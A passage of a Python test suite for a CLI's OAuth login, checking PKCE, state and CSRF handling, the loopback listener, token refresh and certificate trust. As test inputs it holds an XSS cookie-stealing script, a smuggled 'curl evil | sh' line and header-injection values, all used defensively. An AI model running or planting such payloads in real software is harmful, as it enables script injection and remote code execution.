            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
        finally:
            conn.close()

    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
        """A login whose browser comes back with access_denied and this
        description: the listener's answer, then the exit status and stderr."""
        proc, _, _ = self.start_login()
        query = urlencode({"error": "access_denied", "error_description": description})
        answer = self.callback(self.ports[0], "/callback?" + query)
        code, _, err = self.finish(proc)
        return answer, code, err

    def assert_port_closed(self, port: int) -> None:
        with socket.socket() as s:
            s.settimeout(5)
            with self.assertRaises(ConnectionRefusedError, msg=f"something still listens on {port}"):
                s.connect(("127.0.0.1", port))


class OAuthLoginTest(OAuthCase):
    def test_signs_in_through_the_browser(self) -> None:
        import hashlib

        started = int(time.time())
        code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual((code, err), (0, ""))
        lines = out.splitlines()
        self.assertEqual(len(lines), 2, out)
        self.assertTrue(lines[0].startswith("Browser: https://"))
        self.assertEqual(lines[1], "Signed in")
        # The browser ended on the listener's success page.
        status, page = self.browser_saw()
        self.assertEqual(status, 200)
        self.assertIn("Signed in to Arkor", page)
        # The authorize URL: every parameter, and PKCE tied to the token request.
        url = urlsplit(lines[0][len("Browser: ") :])
        self.assertEqual((url.scheme, url.netloc, url.path), ("https", self.auth0.domain, "/authorize"))
        q = {k: v[0] for k, v in parse_qs(url.query).items()}
        redirect_uri = f"http://127.0.0.1:{self.ports[0]}/callback"
        self.assertEqual(
            {k: q[k] for k in ("response_type", "client_id", "redirect_uri", "scope", "audience")},
            {
                "response_type": "code",
                "client_id": self.auth0.client_id,
                "redirect_uri": redirect_uri,
                "scope": "openid profile email offline_access",
                "audience": self.auth0.audience,
            },
        )
        self.assertEqual(q["code_challenge_method"], "S256")
        self.assertIn("scope=openid+profile+email+offline_access", url.query)  # form-encoded
        (exchange,) = self.auth0.seen("POST", "/oauth/token")
        self.assertEqual(exchange.headers["content-type"], "application/x-www-form-urlencoded")
        form = {k: v[0] for k, v in parse_qs(exchange.body.decode()).items()}
        self.assertEqual(set(form), {"grant_type", "code", "code_verifier", "client_id", "redirect_uri"})
        self.assertEqual(form["grant_type"], "authorization_code")
        self.assertEqual(form["redirect_uri"], redirect_uri)
        self.assertEqual(form["client_id"], self.auth0.client_id)
        digest = hashlib.sha256(form["code_verifier"].encode()).digest()
        self.assertEqual(q["code_challenge"], arkor_cli._b64url(digest))
        # The credentials: every field.
        issued = self.auth0.issued[-1]
        stored = self.read_creds()
        expires_at = stored.pop("expiresAt")
        self.assertIsInstance(expires_at, int)
        self.assertGreaterEqual(expires_at, started + 86400)
        self.assertLessEqual(expires_at, int(time.time()) + 86400)
        self.assertEqual(
            stored,
            {
                "mode": "auth0",
                "accessToken": issued["access_token"],
                "refreshToken": issued["refresh_token"],
                "auth0Domain": self.auth0.domain,
                "audience": self.auth0.audience,
                "clientId": self.auth0.client_id,
                "arkorCloudApiUrl": self.cloud.url,
            },
        )
        if POSIX:
            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(self.leftovers(), [])
        self.assert_port_closed(self.ports[0])
        # And the cloud-api takes the new token.
        code, out, _ = self.run_main("whoami")
        self.assertEqual(
            (code, out),
            (
                0,
                (
                    '{\n  "id": "auth0|ada",\n  "email": "ada@example.com",\n  "name": "Ada Lovelace"\n}\n'
                    "Orgs: ada-personal, analytical\n"
                ),
            ),
        )

    def test_oauth_replaces_an_anonymous_identity(self) -> None:
        self.sign_in_anon()
        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 0)
        self.assertEqual(self.read_creds()["mode"], "auth0")

    def test_pkce_and_state(self) -> None:
        import hashlib

        seen = set()
        for _ in range(20):
            verifier, challenge, state = arkor_cli._pkce()
            self.assertRegex(verifier, r"^[A-Za-z0-9_-]{43}$")  # 32 bytes, base64url, no padding
            self.assertRegex(state, r"^[A-Za-z0-9_-]{22}$")  # 16 bytes
            self.assertEqual(challenge, arkor_cli._b64url(hashlib.sha256(verifier.encode()).digest()))
            seen.update((verifier, state))
        self.assertEqual(len(seen), 40)  # never repeats

    def test_first_port_that_binds(self) -> None:
        with socket.socket() as busy:
            busy.bind(("127.0.0.1", self.ports[0]))
            busy.listen()
            code, out, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 0)
        self.assertIn(f"redirect_uri=http%3A%2F%2F127.0.0.1%3A{self.ports[1]}%2Fcallback", out)

    def test_no_port_binds(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        with socket.socket() as a, socket.socket() as b:
            for s, port in ((a, self.ports[0]), (b, self.ports[1])):
                s.bind(("127.0.0.1", port))
                s.listen()
            code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual((code, out), (1, ""))
        prefix = (
            "Login failed\n"
            f"Unable to bind any of the loopback ports {self.ports[0]}, {self.ports[1]}. The Auth0 Application"
            " must list at least one of these as an Allowed Callback URL: "
        )
        self.assertTrue(err.startswith(prefix), err)
        self.assertRegex(err[len(prefix) :], r"^\[Errno \d+\] .+\n$")
        self.assertEqual(self.auth0.requests, [])
        self.assertEqual(self.creds_bytes(), before)

    def test_no_callback_ports(self) -> None:
        self.cloud.config = dict(self.cloud.config, callbackPorts=[])
        code, out, err = self.run_main("login", "--oauth")
        self.assertEqual(
            (code, out, err),
            (1, "", "Login failed\nThe cloud-api lists no callbackPorts for the loopback listener.\n"),
        )

    def test_listener_does_no_reverse_dns(self) -> None:
        # HTTPServer.server_bind calls getfqdn(), which can stall for seconds
        # on a machine with a slow resolver; the listener must not.
        with mock.patch.object(socket, "getfqdn", side_effect=AssertionError("getfqdn called")):
            code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("Signed in\n"))

    def test_listens_on_loopback_only(self) -> None:
        proc, url, _ = self.start_login()
        with socket.socket() as s:
            # The port is taken on 127.0.0.1 alone: another address still binds it.
            try:
                s.bind(("127.0.0.2", self.ports[0]))
            except OSError as exc:
                if exc.errno == __import__("errno").EADDRINUSE:
                    self.fail("the listener took the port on more than 127.0.0.1")
                self.skipTest(f"127.0.0.2 is not usable here: {exc}")
        browse(url)
        code, out, _ = self.finish(proc)
        self.assertEqual((code, out), (0, "Signed in\n"))

    def test_authentication_error(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        for description, reason in (
            ("The user said no.", "Authentication failed: access_denied. The user said no."),
            ("", "Authentication failed: access_denied"),
        ):
            with self.subTest(reason=reason):
                self.forget_browser()
                self.auth0.deny, self.auth0.deny_description = "access_denied", description
                code, out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
                self.assertEqual(code, 1)
                self.assertEqual(err, f"Login failed\n{reason}\n")
                self.assertNotIn("Signed in", out)
                self.assertEqual(self.browser_saw(), (400, reason))
                self.assertEqual(self.auth0.seen("POST"), [])
                self.assertEqual(self.creds_bytes(), before)
                self.assert_port_closed(self.ports[0])

    def test_state_mismatch_sends_no_token_request(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        self.auth0.wrong_state = True
        code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 1)
        self.assertEqual(err, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n")
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.browser_saw()[0], 400)

    def test_token_exchange_refused(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        endpoint = f"POST https://{self.auth0.domain}/oauth/token (200)"
        cases = [
            (Answer(500, body=b"upstream exploded"), "Auth0 token exchange failed (500): upstream exploded"),
            (
                Answer(403, {"error": "invalid_grant", "error_description": "Invalid authorization code"}),
                (
                    'Auth0 token exchange failed (403): {"error": "invalid_grant", "error_description":'
                    ' "Invalid authorization code"}'
                ),
            ),
            (Answer(502, body=b"x" * 1000), "Auth0 token exchange failed (502): " + "x" * 199 + "\u2026"),
            # A token endpoint's body is never quoted: it may hold tokens.
            (
                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": NaN}'),
                f"Unexpected answer from {endpoint}: not JSON.",
            ),
            (
                Answer(200, {"refresh_token": "rt-x", "expires_in": 60}),
                f"Unexpected answer from {endpoint}: no access_token.",
            ),
            (
                Answer(200, {"access_token": "at-x", "refresh_token": "rt-x", "expires_in": "soon"}),
                (
                    f"Unexpected answer from POST https://{self.auth0.domain}/oauth/token:"
                    " expires_in is not a number of seconds."
                ),
            ),
            (
                Answer(200, body=b'{"access_token": "at-x", "refresh_token": "rt-x", "expires_in": 1e999}'),
                (
                    f"Unexpected answer from POST https://{self.auth0.domain}/oauth/token:"
                    " expires_in is not a number of seconds."
                ),
            ),
            (
                Answer(200, {"access_token": "at-x\nInjected: 1", "refresh_token": "rt-x", "expires_in": 60}),
                f"Unexpected answer from {endpoint}: no access_token.",
            ),
        ]
        self.secrets.extend(["rt-x", "at-x"])
        for answer, reason in cases:
            with self.subTest(reason=reason):
                self.auth0.script("POST", "/oauth/token", answer)
                code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
                self.assertEqual(self.creds_bytes(), before)
                self.assertEqual(self.leftovers(), [])

    def test_no_refresh_token(self) -> None:
        self.auth0.omit_refresh_token = True
        code, _out, err = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 1)
        self.assertEqual(
            err,
            "Login failed\nAuth0 did not return a refresh token."
            " Make sure the Application has 'offline_access' scope enabled.\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def test_auth0_unreachable(self) -> None:
        self.cloud.config = dict(self.cloud.config, auth0Domain=f"127.0.0.1:{free_port()}")
        proc, _, q = self.start_login()
        status, _, _ = self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": q["state"]}))
        self.assertEqual(status, 200)
        code, _, err = self.finish(proc)
        self.assertEqual(code, 1)
        self.assertRegex(
            err, r"^Login failed\nCould not reach https://127\.0\.0\.1:\d+/oauth/token: Connection refused\n$"
        )

    def test_untrusted_auth0_certificate(self) -> None:
        # Without the test CA, the system store does not trust the fake Auth0.
        proc, _, q = self.start_login(SSL_CERT_FILE=None)
        self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": q["state"]}))
        code, _, err = self.finish(proc)
        self.assertEqual(code, 1)
        self.assertTrue(
            err.startswith(
                f"Login failed\nCould not reach https://{self.auth0.domain}/oauth/token: TLS certificate not trusted"
            ),
            err,
        )
        self.assertIn("point SSL_CERT_FILE at its bundle", err)
        self.assertEqual(err.count("\n"), 2)

    def test_missing_code_or_state(self) -> None:
        for target in ("/callback", "/callback?code=abc", "/callback?state=xyz", "/callback?code=&state="):
            with self.subTest(target=target):
                proc, _, _ = self.start_login()
                status, headers, body = self.callback(self.ports[0], target)
                self.assertEqual((status, body), (400, b"Missing code/state"))
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
                self.assertEqual(headers["x-content-type-options"], "nosniff")
                code, out, err = self.finish(proc)
                self.assertEqual((code, out, err), (1, "", "Login failed\nMissing code/state in callback\n"))

    def test_other_paths_get_404_and_do_not_end_the_login(self) -> None:
        proc, url, _ = self.start_login()
        for path in ("/favicon.ico", "/", "/callback/extra", "/robots.txt"):
            status, _, _ = self.callback(self.ports[0], path)
            self.assertEqual(status, 404, path)
        self.assertIsNone(proc.poll())
        status, headers, page = browse(url)
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
        self.assertIn(b"You can close this tab", page)
        # The callback URL holds the code: no Referer, no cache, no sniffing.
        self.assertEqual(headers["referrer-policy"], "no-referrer")
        self.assertEqual(headers["cache-control"], "no-store")
        self.assertEqual(headers["x-content-type-options"], "nosniff")
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))

    def test_error_page_is_plain_text(self) -> None:
        # error_description echoes request text: it must never become HTML.
        payload = "<script>alert(document.cookie)</script>"
        (status, headers, body), code, err = self.login_denied(payload)
        self.assertEqual(status, 400)
        self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
        self.assertEqual(headers["x-content-type-options"], "nosniff")
        self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
        self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))

    def test_callback_text_stays_on_one_line(self) -> None:
        _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n")
        self.assertEqual(
            (code, err), (1, "Login failed\nAuthentication failed: access_denied. no Run: curl evil | sh\n")
        )

    def test_state_is_checked_on_a_direct_callback(self) -> None:
        proc, _, _ = self.start_login()
        status, _, body = self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": "forged"}))
        self.assertEqual((status, body.decode()), (400, "State mismatch \u2014 aborting to prevent CSRF"))
        code, _, err = self.finish(proc)
        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
        self.assertEqual(self.auth0.seen("POST"), [])

    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
    def test_ctrl_c_while_waiting(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        proc, _, _ = self.start_login()
        proc.send_signal(signal.SIGINT)
        self.assertEqual(self.finish(proc), (130, "", "Interrupted.\n"))
        self.assert_port_closed(self.ports[0])
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    def test_port_is_free_again_after_each_way_out(self) -> None:
        # After a failure, then after two successes, the same port serves the next login.
        self.auth0.deny = "access_denied"
        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 1)
        self.assert_port_closed(self.ports[0])
        self.auth0.deny = None
        for _ in range(2):
            self.forget_browser()
            code, out, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
            self.assertEqual(code, 0)
            self.assertIn(f"127.0.0.1%3A{self.ports[0]}%2Fcallback", out)
            self.assert_port_closed(self.ports[0])

    def test_a_browser_that_stays_open_does_not_block(self) -> None:
        # This BROWSER fetches the page, then stays for a minute, as a browser
        # started by webbrowser may: neither the login nor a pipe reading its
        # output may wait for it to close.
        proc = self.spawn("login", "--oauth", BROWSER=fake_browser(linger=60))
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        try:
            out, err = proc.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            self.fail("the login, or its pipes, waited for the browser to close")
        self._record(out, err)
        self.assertEqual(proc.returncode, 0, err)
        self.assertTrue(out.endswith("Signed in\n"), out)
        self.assertEqual(self.browser_saw()[0], 200)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_picker_oauth(self) -> None:
        code, shown, err = self.run_tty(["login"], ["1"], NO_COLOR="1", BROWSER=fake_browser())
        self.assertEqual((code, err), (0, ""))
        self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
        self.assertTrue(shown.endswith("Signed in\n"), shown)
        self.assertEqual(self.read_creds()["mode"], "auth0")

    def test_bad_auth0_domain(self) -> None:
        for domain in ("evil.example/path", "user@host", "a b", "tenant.example:abc", "tenant.example:99999"):
            with self.subTest(domain=domain):
                self.cloud.config = dict(self.cloud.config, auth0Domain=domain)
                code, out, err = self.run_main("login", "--oauth", "--no-browser")
                self.assertEqual(
                    (code, out, err),
                    (1, "", f"Login failed\nThe cloud-api's auth0Domain is not a host name: {domain!r}.\n"),
                )
                self.assert_port_closed(self.ports[0])

    def test_auth0_domain_with_scheme_is_accepted(self) -> None:
        self.cloud.config = dict(self.cloud.config, auth0Domain=f"https://{self.auth0.domain}/")
        code, _, _ = self.run_main("login", "--oauth", BROWSER=fake_browser())
        self.assertEqual(code, 0)
        self.assertEqual(self.read_creds()["auth0Domain"], self.auth0.domain)


class BrowserChoiceTest(unittest.TestCase):
    """Which browser is started where: a pure function of the environment."""

    URL = "https://tenant/authorize?x=1"

    def command(self, env: dict[str, str], platform: str = "linux", kernel: str = "6.1.0", which: Any = None) -> Any:
        return arkor_cli._browser_command(self.URL, env, platform, kernel, which or (lambda name: None))

    def test_browser_variable_is_honoured(self) -> None:
        argv, env = self.command({"BROWSER": "firefox"})
        self.assertEqual(argv[:3], [sys.executable, "-I", "-c"])
        self.assertEqual(argv[4], self.URL)
        self.assertEqual(env["BROWSER"], "firefox")

    def test_text_browsers_are_never_started(self) -> None:
        for value in ("lynx", "/usr/bin/w3m", "links -g %s", "elinks", "www-browser", "links2", "LYNX.EXE"):
            with self.subTest(value=value):
                self.assertIsNone(self.command({"BROWSER": value, "DISPLAY": ":0"}))
        argv, env = self.command({"BROWSER": os.pathsep.join(["lynx", "firefox %s", "w3m"])})
        self.assertEqual(env["BROWSER"], "firefox %s")
        # Without BROWSER, webbrowser's own choice is checked in the child.
        argv, env = self.command({"DISPLAY": ":0"})
        self.assertEqual(argv[5].split(","), sorted(["elinks", "links", "links2", "lynx", "w3m", "www-browser"]))

    def test_no_display_no_browser(self) -> None:
        self.assertIsNone(self.command({}))
        self.assertIsNotNone(self.command({"DISPLAY": ":0"}))
        self.assertIsNotNone(self.command({"WAYLAND_DISPLAY": "wayland-0"}))
        self.assertIsNotNone(self.command({}, platform="darwin"))
        self.assertIsNotNone(self.command({}, platform="win32"))

    def test_wsl_opens_the_windows_browser(self) -> None:
        argv, _ = self.command({}, kernel="5.15.0-microsoft-standard-WSL2", which=lambda n: "/usr/bin/wslview")
        self.assertEqual(argv, ["wslview", self.URL])
        argv, _ = self.command({"WSL_DISTRO_NAME": "Debian"})
        self.assertEqual(argv[:2], ["powershell.exe", "-NoProfile"])
        self.assertEqual(argv[-1], f"Start-Process '{self.URL}'")
        found = arkor_cli._browser_command("https://x/?a='b'", {"WSL_DISTRO_NAME": "D"}, "linux", "", lambda n: None)
        assert found is not None
        self.assertEqual(found[0][-1], "Start-Process 'https://x/?a=''b'''")

    @unittest.skipUnless(sys.platform.startswith("linux"), "webbrowser's Linux discovery")
    def test_default_browser_through_webbrowser(self) -> None:
        # With a display and no BROWSER, webbrowser (in its child process)
        # finds xdg-open on PATH and hands it the URL.
        bindir = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, bindir, True)
        marker = os.path.join(bindir, "opened")
        script = os.path.join(bindir, "xdg-open")
        with open(script, "w") as f:
            f.write(f'#!/bin/sh\nprintf "%s" "$1" > "{marker}"\n')
        os.chmod(script, 0o755)
        # PATH holds nothing but the fake: no real browser on this machine may answer.
        arkor_cli._open_browser(self.URL, {"PATH": bindir, "DISPLAY": ":0"})
        deadline = time.monotonic() + 20
        while not os.path.exists(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        with open(marker) as f:
            self.assertEqual(f.read(), self.URL)


class ChromiumTest(OAuthCase):
    """The whole browser leg in a real headless Chromium."""

    CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

    def test_chromium_follows_the_redirect_to_the_listener(self) -> None:
        if not self.CHROMIUM:
            if os.environ.get("ARKOR_TEST_REQUIRE_CHROMIUM"):  # set by .ci/run, which installs it
                self.fail("Chromium is required here but not installed")
            self.skipTest("Chromium is not installed (Debian: apt-get install chromium)")
        proc, url, _ = self.start_login()
        profile = tempfile.mkdtemp(prefix="arkor-chromium-")
        self.addCleanup(shutil.rmtree, profile, True)
        flags = [
            "--headless",
            "--no-sandbox",  # as root here
            "--disable-gpu",
            f"--user-data-dir={profile}",
            "--disable-background-networking",  # there is no outside network
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--disable-quic",
            "--ignore-certificate-errors",  # the fake Auth0's test CA is not in Chromium's store
            "--virtual-time-budget=10000",
            "--dump-dom",
        ]
        assert self.CHROMIUM is not None
        browser = subprocess.run(
            [self.CHROMIUM, *flags, url],
            capture_output=True,
            text=True,
            timeout=120,
            stdin=subprocess.DEVNULL,
            check=False,
        )
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""), browser.stderr[-2000:])
        self.assertIn("Signed in to Arkor", browser.stdout)
        self.assertEqual(self.read_creds()["mode"], "auth0")
        (authorize,) = self.auth0.seen("GET", "/authorize")
        self.assertIn("Chrome", authorize.headers.get("user-agent", ""))
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"), out)


# ---------------------------------------------------------------------------
# Beyond the documented CLI: refresh, revoke, paste, timeout, --json, hardening
# ---------------------------------------------------------------------------


class RefreshTest(OAuthCase):
    """An OAuth session kept alive with its refresh token."""

    def routes(self) -> list[str]:
        both = [(r, "auth0") for r in self.auth0.requests] + [(r, "cloud") for r in self.cloud.requests]
        return [f"{r.method} {r.path}" for r, _ in sorted(both, key=lambda x: x[0].when)]

    def assert_identity(self, out: str) -> None:
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)

    def test_near_expiry_refreshes_before_the_request(self) -> None:
        old = self.sign_in_oauth(expires_in=30)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
        (refresh,) = self.auth0.seen("POST", "/oauth/token")
        self.assertEqual(refresh.headers["content-type"], "application/x-www-form-urlencoded")
        self.assertEqual(
            {k: v[0] for k, v in parse_qs(refresh.body.decode()).items()},
            {"grant_type": "refresh_token", "client_id": self.auth0.client_id, "refresh_token": old["refreshToken"]},
        )
        new = self.read_creds()
        fresh = self.auth0.issued[-1]["access_token"]
        self.assertEqual(self.cloud.seen("GET", "/v1/me")[0].headers["authorization"], f"Bearer {fresh}")
        self.assertEqual(new["accessToken"], fresh)
        self.assertEqual(new["refreshToken"], old["refreshToken"])  # no rotation: the same one stays
        self.assertGreaterEqual(new["expiresAt"], int(time.time()) + 86400 - 5)
        self.assertEqual(
            {k: v for k, v in new.items() if k not in ("accessToken", "expiresAt")},
            {k: v for k, v in old.items() if k not in ("accessToken", "expiresAt")},
        )
        if POSIX:
            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(self.leftovers(), [])

    def test_rotated_refresh_token_is_stored(self) -> None:
        self.auth0.rotate = True
        old = self.sign_in_oauth(expires_in=-100)
        code, _out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        stored = self.read_creds()["refreshToken"]
        self.assertNotEqual(stored, old["refreshToken"])
        self.assertEqual(stored, self.auth0.newest_refresh_token())
        self.assertTrue(self.auth0.accepts(stored))
        self.assertFalse(self.auth0.accepts(old["refreshToken"]))

    def test_401_refreshes_and_retries_once(self) -> None:
        old = self.sign_in_oauth(expires_in=3600)
        del self.cloud.tokens[old["accessToken"]]  # the cloud-api stopped taking it
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
        self.assertEqual(self.read_creds()["accessToken"], self.auth0.issued[-1]["access_token"])

    def test_401_after_a_refresh_is_not_retried_again(self) -> None:
        self.sign_in_oauth(expires_in=3600)
        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "nope"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ""))
        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])

    def test_refused_refresh_falls_back_and_says_how_to_sign_in(self) -> None:
        for expires_in in (-100, 3600):  # before the request, and after a 401
            with self.subTest(expires_in=expires_in):
                self.auth0.requests.clear()
                self.cloud.requests.clear()
                old = self.sign_in_oauth(expires_in=expires_in)
                self.auth0.refresh_tokens[old["refreshToken"]]["revoked"] = True
                del self.cloud.tokens[old["accessToken"]]
                before = self.creds_bytes()
                code, out, err = self.run_main("whoami")
                self.assertEqual(
                    (code, out, err),
                    (
                        0,
                        "Failed to fetch /v1/me (401). Token may be expired.\n",
                        (
                            "The session could not be renewed (Auth0: invalid_grant)."
                            " Sign in again with `arkor login --oauth`.\n"
                        ),
                    ),
                )
                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
                self.assertEqual(self.creds_bytes(), before)

    def test_unreachable_refresh_goes_ahead_with_the_stored_token(self) -> None:
        self.sign_in_oauth(expires_in=30)
        before = self.creds_bytes()
        self.auth0.script("POST", "/oauth/token", Answer(503, body=b"down for maintenance"))
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 503);"
            " trying the stored one.\n",
        )
        self.assertEqual(self.creds_bytes(), before)
        # Auth0 gone altogether: the same, with the network's reason.
        self.auth0.stop()
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
            " Connection refused); trying the stored one.\n",
        )
        self.assertEqual(self.creds_bytes(), before)

    def test_concurrent_refreshes_keep_the_newest_refresh_token(self) -> None:
        # Five processes find the token expired at the same moment; Auth0
        # rotates and refuses a spent refresh token. Under the lock, one
        # refreshes and the others adopt its result.
        self.auth0.rotate = True
        self.auth0.refresh_delay = 0.5
        self.sign_in_oauth(expires_in=-100)
        procs = [self.spawn("whoami") for _ in range(5)]
        for proc in procs:
            out, err = proc.communicate(timeout=60)
            self._record(out, err)
            self.assertEqual((proc.returncode, err), (0, ""))
            self.assert_identity(out)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        stored = self.read_creds()["refreshToken"]
        self.assertEqual(stored, self.auth0.newest_refresh_token())
        self.assertTrue(self.auth0.accepts(stored))

    def test_login_waits_for_a_renewal_in_flight(self) -> None:
        # A renewal reads, asks Auth0, then writes: a login or a logout in
        # the middle must not be overwritten by that write.
        self.auth0.refresh_delay = 1.5
        # Auth0 fails to revoke, so the renewal in flight still succeeds.
        self.auth0.script("POST", "/oauth/revoke", Answer(500))
        for second in (["login", "--anonymous"], ["logout", "--yes"]):
            with self.subTest(second=second):
                self.auth0.requests.clear()
                self.sign_in_oauth(expires_in=-100)
                renewing = self.spawn("whoami")
                self.wait_until(lambda: self.auth0.seen("POST", "/oauth/token"), 20)
                proc = self.run_cli(*second)
                out, err = renewing.communicate(timeout=60)
                self._record(out, err)
                self.assertEqual((proc.returncode, renewing.returncode), (0, 0))
                if second[0] == "login":
                    self.assertEqual(err, "")
                    self.assertEqual(self.read_creds()["mode"], "anon")
                else:
                    self.assertEqual(err, "")
                    self.assertFalse(os.path.exists(self.creds))

    def test_renewed_but_not_stored_still_serves_the_command(self) -> None:
        self.sign_in_oauth(expires_in=-100)
        before = self.creds_bytes()
        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
            code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not write {self.creds}: No space left on device. The renewed token serves this command only.\n",
        )
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "fcntl")
    def test_a_lock_held_too_long_is_given_up_with_a_warning(self) -> None:
        import fcntl

        self.sign_in_oauth(expires_in=-100)
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="0.5")
        self.assertEqual(code, 0)
        self.assert_identity(out)  # the stored access token still works here
        self.assertEqual(
            err,
            f"Could not renew the access token (Another arkor process holds {self.creds}.lock;"
            " try again in a moment.); trying the stored one.\n",
        )
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])

    def test_lock_is_released_after_a_failure(self) -> None:
        self.sign_in_oauth(expires_in=-100)
        self.auth0.script("POST", "/oauth/token", Answer(500), Answer(200, self.auth0._issue(refresh=False)))
        self.run_main("whoami")
        code, _out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="1")  # the lock wait is bounded by it
        self.assertEqual((code, err), (0, ""))


class SystemTrustTest(OAuthCase):
    """HTTPS checked first against the hashed directory of the default trust
    (read one certificate at a time), then against all of it."""

    CA_DIR = os.path.join(FIXTURES, "ca-dir")

    def directory(self, *files: tuple[str, str]) -> str:
        """A new directory holding each (name, source file) given."""
        folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, folder, True)
        for name, source in files:
            shutil.copy(source, os.path.join(folder, name))
        return folder

    def lacking(self) -> str:
        """A hashed directory without the test CA (another certificate under a hash name)."""
        return self.directory(("00000000.0", os.path.join(FIXTURES, "server.pem")))

    def test_hashed_names(self) -> None:
        for name in ("5dfd3959.0", "00000000.12"):
            self.assertTrue(arkor_cli._is_hashed_ca_name(name), name)
        for name in ("ca-certificates.crt", "5dfd3959.r0", "5dfd395.0", "5dfd39590.0", "5DFD3959.0", "5dfd3959.", "x"):
            self.assertFalse(arkor_cli._is_hashed_ca_name(name), name)

    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
    def test_which_directory_is_tried_first(self) -> None:
        import ssl

        other = self.lacking()
        cases: list[tuple[dict[str, str], str | None]] = [
            ({"SSL_CERT_DIR": self.CA_DIR}, self.CA_DIR),
            ({"SSL_CERT_DIR": other}, other),
            # A bundle chosen by hand is loaded whole: a company CA may be there alone.
            ({"SSL_CERT_DIR": self.CA_DIR, "SSL_CERT_FILE": TEST_CA}, None),
            ({"SSL_CERT_DIR": self.directory()}, None),  # empty
            ({"SSL_CERT_DIR": self.directory(("ca-bundle.crt", TEST_CA))}, None),  # a bundle, no hashed names
